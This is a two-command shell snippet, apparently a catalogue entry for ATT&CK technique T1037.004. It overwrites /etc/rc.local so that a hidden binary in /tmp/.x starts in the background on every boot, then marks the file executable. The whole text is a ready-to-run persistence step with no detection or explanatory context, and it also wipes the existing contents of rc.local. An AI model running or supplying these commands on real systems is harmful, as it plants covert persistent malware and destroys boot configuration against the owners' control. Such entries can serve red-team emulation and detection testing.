# technique: T1037.004
# title: a line that every start runs
printf '#!/bin/sh\n/tmp/.x/agent &\n' > /etc/rc.local
chmod +x /etc/rc.local
